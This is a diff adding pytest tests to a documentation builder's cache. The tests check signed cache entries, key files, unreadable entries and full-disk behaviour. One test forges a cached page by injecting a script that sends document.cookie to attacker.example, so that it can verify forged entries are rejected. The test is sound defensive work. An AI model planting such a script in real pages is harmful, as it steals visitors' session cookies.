@@ -21,6 +21,7 @@ import pytest
 
 from tests.output_checks import kwdocs_command, pages, tree_state
 from tests.conftest import FIXTURES
+from tests.test_mistakes import small_disk  # noqa: F401  (a fixture)
 
 SUMMARY = re.compile(r"([\d,]+) files scanned.*?([\d,]+) files extracted, ([\d,]+) from the cache, "
                      r"([\d,]+) entries stored in it")
@@ -432,4 +433,93 @@ def test_a_links_entry_naming_other_shards_is_ignored_and_linked_again(tmp_path,
     result = build(again, "--cache", str(cache))
     warnings = [line for line in result.stderr.splitlines() if "of the tree's links ignored" in line]
     assert len(warnings) == 1 and "its links are not this tree's" in warnings[0], result.stderr
+    assert pages(again / "kwdocs-out") == cold
+
+
+KEY = "a key the team keeps in its CI secrets"
+UNSIGNED = re.compile(r"^kwdocs: cache \S+: ([\d,]+) entr(?:y|ies) not signed with this build's key ignored "
+                      r"and made again$", re.M)
+
+
+def test_with_a_key_a_forged_or_unsigned_entry_is_ignored_in_read_mode_and_counted_in_one_line(tmp_path, cold):
+    """An entry rewritten with its hash recomputed (a script planted in a page) was trusted, even
+    with ``--cache-mode read``; with a key only entries signed with it are used."""
+    cache = tmp_path / "cache"
+    signed = {"KWDOCS_CACHE_KEY": KEY}
+    build(clone(tmp_path, "first"), "--cache", str(cache), env=signed)
+    entry = entries(cache, "pages")["README.md"]
+    header, _, body = entry.read_bytes().partition(b"\n")
+    index, _, texts = body.partition(b"\n")
+    parts = orjson.loads(index)
+    script = b"<script>fetch('https://attacker.example/?'+document.cookie)</script>\n"
+    parts[0][1] += len(script)
+    forge(entry, header, orjson.dumps(parts) + b"\n" + script + texts)
+    keyless = clone(tmp_path, "keyless")     # a build without the key fills in what it finds missing
+    facts = entries(cache)["geometry/broken.py"]
+    facts.unlink()
+    build(keyless, "--cache", str(cache))
+    assert b"hmac" not in facts.read_bytes(), "a build without a key signed an entry"
+
+    again = clone(tmp_path, "again")
+    result = build(again, "--cache", str(cache), "--cache-mode", "read", env=signed)
+    assert pages(again / "kwdocs-out") == cold, "a forged or unsigned entry was used"
+    assert [int(count) for count in UNSIGNED.findall(result.stderr)] == [2], result.stderr
+    assert "cache entry" not in result.stderr, result.stderr       # counted, not one line each
+    assert counts(result)["extracted"] == 1
+    assert KEY.encode() not in b"".join(path.read_bytes() for folder in (cache, again / "kwdocs-out")
+                                        for path in folder.rglob("*") if path.is_file())
+
+
+def test_a_key_file_signs_the_entries_and_a_missing_one_is_one_line(tmp_path, cold):
+    cache = tmp_path / "cache"
+    key_file = tmp_path / "cache.key"
+    key_file.write_text(KEY + "\n")
+    first = clone(tmp_path, "first")
+    build(first, "--cache", str(cache), "--cache-key-file", str(key_file))
+    other = clone(tmp_path, "other")     # another key: nothing of the cache is used
+    result = build(other, "--cache", str(cache), "--cache-mode", "read", env={"KWDOCS_CACHE_KEY": "another key"})
+    assert counts(result)["extracted"] == counts(result)["scanned"]
+    read = [path for path in cache.rglob("*") if path.is_file()         # all but the page hashes, which
+            and orjson.loads(path.read_bytes().partition(b"\n")[0])["kind"] != "outputs"]  # check reads
+    assert [int(count.replace(",", "")) for count in UNSIGNED.findall(result.stderr)] == [len(read)], result.stderr
+    assert pages(other / "kwdocs-out") == cold
+    again = clone(tmp_path, "again")
+    settings = tmp_path / "settings" / "kwdocs.toml"     # the key file named relative to it
+    settings.parent.mkdir()
+    settings.write_text(f'project_name = "tiny-geometry"\ncache = "{cache}"\ncache_key_file = "../cache.key"\n')
+    said = counts(build(again, "--config", str(settings)))
+    assert said["extracted"] == 0 and said["hits"] == said["scanned"]
+    assert pages(again / "kwdocs-out") == cold
+    written = b"".join(path.read_bytes() for folder in (cache, first / "kwdocs-out", again / "kwdocs-out")
+                       for path in folder.rglob("*") if path.is_file())
+    assert KEY.encode() not in written and b"cache.key" not in written
+    missing = build(clone(tmp_path, "missing"), "--cache", str(cache), "--cache-key-file", str(tmp_path / "nope"),
+                    check=False)
+    assert missing.returncode == 2 and missing.stderr.count("\n") == 1 and "cache_key_file" in missing.stderr, \
+        missing.stderr
+
+
+def test_a_folder_in_an_entrys_place_costs_that_entry_not_the_cache(tmp_path, cold):
+    """An entry that cannot be read turned the cache off for the whole build."""
+    cache = tmp_path / "cache"
+    build(clone(tmp_path, "first"), "--cache", str(cache))
+    entry = entries(cache)["geometry/broken.py"]
+    entry.unlink()
+    entry.mkdir()
+    again = clone(tmp_path, "again")
+    result = build(again, "--cache", str(cache))
+    said = counts(result)
+    assert said["extracted"] == 1 and said["hits"] == said["scanned"] - 1, result.stdout + result.stderr
+    assert "building without it" not in result.stderr, result.stderr
+    assert pages(again / "kwdocs-out") == cold
+    assert entry.is_dir(), "kwdocs removed a folder it did not write"
+
+
+def test_a_cache_on_a_full_disk_leaves_no_temporary_files(small_disk, tmp_path, cold):
+    free = os.statvfs(small_disk)
+    (small_disk / "filler").write_bytes(b"\0" * (free.f_bavail * free.f_frsize - 24 * 1024))
+    again = clone(tmp_path, "again")
+    result = build(again, "--cache", str(small_disk / "cache"))
+    assert "no space left" in result.stderr.lower() and "building without it" in result.stderr, result.stderr
+    assert not [path for path in small_disk.rglob("*") if path.name.endswith(".tmp")], "a temporary was left"
     assert pages(again / "kwdocs-out") == cold
